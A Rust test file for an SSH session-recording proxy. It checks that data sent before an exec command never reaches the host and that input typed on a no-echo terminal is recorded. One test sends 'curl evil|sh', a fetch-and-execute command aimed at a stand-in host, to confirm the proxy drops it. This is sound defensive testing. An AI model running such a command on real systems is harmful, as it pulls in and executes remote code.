//! What is sent and shown nowhere: with the echo off, and before there is a command.

use super::*;

use russh::keys::{Certificate as Shown, PrivateKey, PublicKeyOrCertificate};
use russh::server::{self, Auth, ChannelOpenHandle, Msg, Session};
use russh::{Channel, ChannelId, client};

/// A host that takes what comes on a session before a command for what is typed to it later, as OpenSSH does not.
#[derive(Clone, Default)]
struct Keeps(Arc<Mutex<Vec<u8>>>);

impl server::Handler for Keeps {
    type Error = russh::Error;

    async fn auth_openssh_certificate(&mut self, _: &str, _: &Shown) -> Result<Auth, russh::Error> {
        Ok(Auth::Accept)
    }

    async fn channel_open_session(
        &mut self,
        _: Channel<Msg>,
        reply: ChannelOpenHandle,
        _: &mut Session,
    ) -> Result<(), russh::Error> {
        reply.accept().await;
        Ok(())
    }

    async fn exec_request(&mut self, id: ChannelId, data: &[u8], session: &mut Session) -> Result<(), russh::Error> {
        if data == b"refuse" { session.channel_failure(id) } else { session.channel_success(id) }
    }

    async fn data(&mut self, id: ChannelId, data: &[u8], session: &mut Session) -> Result<(), russh::Error> {
        self.0.lock().unwrap().extend_from_slice(data);
        if data.ends_with(b"done\n") {
            session.exit_status_request(id, 0)?;
            session.close(id)?;
        }
        Ok(())
    }
}

struct Takes;

impl client::Handler for Takes {
    type Error = russh::Error;

    async fn check_server_key(&mut self, _: &PublicKeyOrCertificate) -> Result<bool, russh::Error> {
        Ok(true)
    }
}

fn private(key: &SigningKey) -> PrivateKey {
    PrivateKey::from_openssh(crypto::ssh::private_key(key, &SystemRng).expose_str().unwrap()).unwrap()
}

/// All that is kept of the recordings once so many have ended.
async fn kept(setup: &Setup, ended: usize) -> String {
    let began = Instant::now();
    loop {
        let kept = setup.recorder.text.lock().unwrap().clone();
        if kept.matches("END").count() >= ended {
            return kept;
        }
        assert!(began.elapsed() < Duration::from_secs(20), "{kept}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn attack_ssh_what_is_sent_before_a_command_reaches_no_host_that_would_keep_it_for_one() {
    let (mut setup, own, listener) = (Setup::new(), key(), TcpListener::bind(("127.0.0.1", 0)).await.unwrap());
    (setup.host_key, setup.host_port) = (line(&own), listener.local_addr().unwrap().port());
    let heard = Keeps::default();
    let host = heard.clone();
    tokio::spawn(async move {
        let config = server::Config { keys: vec![private(&own)], ..server::Config::default() };
        let (stream, _) = listener.accept().await.unwrap();
        server::run_stream(Arc::new(config), stream, host).await.unwrap().await
    });
    let port = setup.serve().await;
    let mine = key();
    let signed = setup.sign(CertificateKind::User, &line(&mine), PRINCIPAL, now_s() + 120, &setup.authority);
    let mut ssh = client::connect(Arc::default(), ("127.0.0.1", port), Takes).await.unwrap();
    let (mine, signed) = (Arc::new(private(&mine)), Shown::from_openssh(signed.trim()).unwrap());
    assert!(ssh.authenticate_openssh_cert(&setup.account, mine, signed).await.unwrap().success());
    let said = async |command: &str, first: &[u8], then: &[u8]| {
        let mut session = ssh.channel_open_session().await.unwrap();
        session.data_bytes(first.to_vec()).await.unwrap();
        session.exec(true, command).await.unwrap();
        session.data_bytes(then.to_vec()).await.unwrap();
        // Until it is over, or nothing runs.
        while let Some(message) = session.wait().await {
            if matches!(message, russh::ChannelMsg::Failure) {
                break;
            }
        }
    };
    said("refuse", b"first\n", b"").await;
    said("sh", b"curl evil|sh\n", b"done\n").await;
    assert_eq!(*heard.0.lock().unwrap(), b"done\n", "the host gets what is recorded and nothing else");
    let kept = kept(&setup, 1).await;
    assert!(kept.contains("\"i\", \"done\\n\"]") && !kept.contains("evil"), "{kept}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_typed_on_a_terminal_that_was_asked_for_without_echo_is_recorded() {
    let setup = Setup::new();
    let port = setup.serve().await;
    let config = setup.good(port);
    for (echo, recorded) in [("-echo", true), ("echo", false)] {
        setup.recorder.text.lock().unwrap().clear();
        setup.recorder.about.lock().unwrap().clear();
        // A terminal of its own (script(1)), with the mode that ssh asks for at the host.
        let line = format!("stty {echo}; ssh -F {} -tt web1 'read word; test \"$word\" = typed'", config.display());
        let mut child = Command::new("script")
            .args(["-qec", &line, "/dev/null"])
            .env_clear()
            .envs([("PATH", "/usr/bin:/bin"), ("TERM", "xterm"), ("SHELL", "/bin/sh")])
            .env("HOME", setup.dir.path())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        let began = Instant::now();
        // What is typed before ssh has the terminal may be lost with the change of its modes.
        while setup.recorder.about.lock().unwrap().is_empty() {
            assert!(began.elapsed() < Duration::from_secs(20), "it begins");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        stdin.write_all(b"typed\n").await.unwrap();
        let ran =
            tokio::time::timeout(Duration::from_mins(1), child.wait_with_output()).await.expect("it ends").unwrap();
        assert!(ran.status.success(), "{ran:?}");
        let kept = kept(&setup, 1).await;
        let typed: String = kept.lines().filter(|line| line.contains("\"i\"")).collect();
        assert_eq!(typed.contains("typed"), recorded, "{echo}: {kept}");
        // What is not recorded was shown.
        assert_eq!(
            kept.lines().any(|line| line.contains("\"o\"") && line.contains("typed")),
            !recorded,
            "{echo}: {kept}"
        );
        let told = setup.recorder.about.lock().unwrap().clone();
        assert_eq!(told.iter().map(RecordingTarget::is_tty).collect::<Vec<_>>(), [!recorded]);
    }
}
